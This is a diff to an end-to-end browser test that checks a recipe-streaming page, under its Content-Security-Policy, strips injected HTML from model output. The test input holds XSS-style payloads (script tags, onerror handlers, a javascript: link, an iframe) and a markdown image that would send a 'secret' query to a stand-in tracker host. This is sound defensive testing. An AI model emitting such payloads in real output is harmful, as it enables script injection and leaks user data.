@@ -44,9 +44,17 @@ async function askForRecipe(page: Page) {
 
 describe('under the Content-Security-Policy', () => {
   it('loads the page and streams a whole recipe without a single violation', async () => {
-    const hostile = 'Serve hot. <img src="https://tracker.invalid/p.gif" onerror="alert(1)"> <script>alert(2)</script>\n\n';
+    const hostile = [
+      'Serve hot. <img src="https://tracker.invalid/p.gif" onerror="alert(1)"> <script>alert(2)</script>\n\n',
+      '![a pixel](https://tracker.invalid/?q=secret) [tap](javascript:alert(3)) <iframe src="https://tracker.invalid/"></iframe>\n\n',
+    ].join('');
     host.answerWith({ kind: 'stream', pieces: ['## Tomato pasta\n\n', hostile, '1. Boil.\n2. Stir.\n\n', 'Enjoy!'], gapMs: 20 });
     const { page, violations } = await watchedPage();
+    // Nothing the model wrote may make the page reach anywhere but its own origin, or pop a dialog.
+    const elsewhere: string[] = [];
+    page.on('request', (request) => !request.url().startsWith(server.url) && elsewhere.push(request.url()));
+    const dialogs: string[] = [];
+    page.on('dialog', (dialog) => void dialogs.push(dialog.message()) && void dialog.dismiss());
     const response = await page.goto(server.url);
     expect(response?.headers()['content-security-policy']).toContain("script-src 'self'");
 
@@ -56,7 +64,10 @@ describe('under the Content-Security-Policy', () => {
     await page.getByRole('status').waitFor({ state: 'detached' });
 
     expect(await section.locator('h2', { hasText: 'Tomato pasta' }).count()).toBe(1);
-    expect(await section.locator('img, script').count()).toBe(0);
+    expect(await section.locator('img, script, iframe, a[href^="javascript"]').count()).toBe(0);
+    expect(await section.getByText('a pixel').count()).toBe(1);
+    expect(elsewhere).toEqual([]);
+    expect(dialogs).toEqual([]);
     expect(await violations()).toEqual([]);
     await page.close();
   });
